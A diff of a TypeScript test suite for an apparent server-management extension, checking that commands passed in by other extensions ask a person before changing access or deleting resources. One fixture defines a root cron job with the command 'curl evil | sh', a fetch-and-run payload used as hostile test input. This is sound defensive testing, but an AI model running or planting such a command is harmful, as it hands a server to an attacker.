@@ -15,10 +15,16 @@ const keys: Target = { account: 'service', kind: 'sshKey', parents: [1] };
 const rules: Target = { account: 'service', kind: 'firewallRule', parents: [1] };
 const ssh: Target = { account: 'service', kind: 'sshSettings', ids: [1] };
 const user: Target = { account: 'service', kind: 'systemUser', ids: [1, 102] };
+const database: Target = { account: 'service', kind: 'database', ids: [1, 101] };
+const databaseUser: Target = { account: 'service', kind: 'databaseUser', ids: [1, 101] };
+const integrations: Target = { account: 'service', kind: 'integration', parents: [] };
+const integration: Target = { account: 'service', kind: 'integration', ids: [1] };
 const nginx: Target = { account: 'service', kind: 'service', ids: [1, 'nginx'] };
 
 const passed = 'Another extension or a key binding passed these values:';
 const rootJob = { label: 'Tidy', time: '* * * * *', username: 'root', command: 'curl evil | sh' };
+const login = { username: 'deploy', password: 'correct-horse-battery' };
+const storage = { label: 'Storage', service: 'linode', secret: 'a secret' };
 const rootKey = { label: 'Me', username: 'root', publicKey: 'ssh-ed25519 AAAA', temporary: false };
 
 /** A person who answers every question, but declines before anything is sent. */
@@ -76,7 +82,7 @@ describe('A command with arguments from outside', () => {
           passed,
           ...Object.entries(given).map(([name, value]) => `"${name}": ${JSON.stringify(value)}`),
         ]);
-        assert.ok(lines.includes('Account: Example Hosting'), asked?.detail);
+        assert.ok(lines.includes('Account: Example Hosting (production)'), asked?.detail);
         assert.match(asked?.message ?? '', new RegExp(`^${command}`));
       });
     }
@@ -99,18 +105,21 @@ describe('A command with arguments from outside', () => {
     it('names the server of the resource', async () => {
       await run('serverManagement.runCronJob', job);
       assert.deepEqual(prompts.confirmations[0], {
-        message: 'serverManagement.runCronJob: "Nightly backup"?',
-        detail: 'Server: shop-frankfurt\nAccount: Example Hosting',
+        message: 'serverManagement.runCronJob "Nightly backup"?',
+        detail: 'Server: shop-frankfurt\nAccount: Example Hosting (production)',
         button: 'serverManagement.runCronJob',
         typed: undefined,
       });
       await run('serverManagement.createCronJob', jobs, rootJob);
       const [asked] = prompts.confirmations;
       assert.equal(asked?.message, 'serverManagement.createCronJob?');
-      assert.match(asked.detail, /\nServer: shop-frankfurt\nAccount: Example Hosting$/);
+      assert.match(
+        asked.detail,
+        /\nServer: shop-frankfurt\nAccount: Example Hosting \(production\)$/,
+      );
     });
 
-    it('asks before a service is restarted, even if another extension passed the resource', async () => {
+    it('asks before restarting a service, even if another extension passed the resource', async () => {
       const person = new ScriptedPrompts({ answers: { action: 'restart' } });
       const outcome = await run('serverManagement.controlService', nginx, {}, person);
       assert.equal(outcome.status, 'done');
@@ -128,7 +137,7 @@ describe('A command with arguments from outside', () => {
       assert.deepEqual(prompts.confirmations, []);
     });
 
-    it('shows what was passed even if the person answered the rest', async () => {
+    it('shows the passed values even if the person answered the rest', async () => {
       const { label, ...given } = rootJob;
       await run(
         'serverManagement.createCronJob',
@@ -139,7 +148,7 @@ describe('A command with arguments from outside', () => {
       assert.match(prompts.confirmations[0]?.detail ?? '', /"command": "curl evil \| sh"/);
     });
 
-    it('shows passed values beside the questions, nested ones included', async () => {
+    it('shows passed values next to the questions, including nested ones', async () => {
       await run('serverManagement.renameServer', servers, { name: 'a', extra: { deep: ['x'] } });
       assert.match(prompts.confirmations[0]?.detail ?? '', /"extra": \{"deep":\["x"\]\}/);
     });
@@ -151,14 +160,14 @@ describe('A command with arguments from outside', () => {
       assert.ok(!detail.includes('correct-horse'));
     });
 
-    it("demands the account's name before access changes, so that a stray key can't confirm", async () => {
+    it("requires the account's name before access changes, so that a stray key can't confirm", async () => {
       await run('serverManagement.createSshKey', keys, rootKey);
       assert.equal(prompts.confirmations[0]?.typed, 'Example Hosting');
       await run('serverManagement.renameServer', servers, { name: 'mine' });
       assert.equal(prompts.confirmations[0]?.typed, undefined);
     });
 
-    it('shows a value on one line, whatever it contains', async () => {
+    it('shows a value on one line, even if it contains line breaks', async () => {
       await run('serverManagement.renameServer', servers, { name: 'a\nAccount: testing' });
       assert.match(prompts.confirmations[0]?.detail ?? '', /"name": "a\\nAccount: testing"/);
     });
@@ -179,9 +188,15 @@ describe('A command with arguments from outside', () => {
       ['serverManagement.changePassword', user, { password: 'correct-horse-battery' }],
       ['serverManagement.createFirewallRule', rules, { type: 'global', port: 1, protocol: 'tcp' }],
       ['serverManagement.deployFirewallRules', rules, {}],
+      ['serverManagement.createSystemUser', { ...keys, kind: 'systemUser' }, login],
+      ['serverManagement.createDatabaseUser', { ...keys, kind: 'databaseUser' }, login],
+      ['serverManagement.changePassword', databaseUser, { password: login.password }],
+      ['serverManagement.changeDatabaseAccess', database, { users: { '102': true } }],
+      ['serverManagement.createIntegration', integrations, storage],
+      ['serverManagement.changeIntegrationSecret', integration, { secret: storage.secret }],
       ['serverManagement.delete', job, {}],
     ] as const) {
-      it(`asks before it changes access or deletes something: ${command}`, async () => {
+      it(`asks before it changes access or deletes something: ${command} on a ${target.kind}`, async () => {
         const outcome = await run(command, target, given);
         assert.equal(outcome.status, 'cancelled');
         assert.deepEqual(await writes(), []);
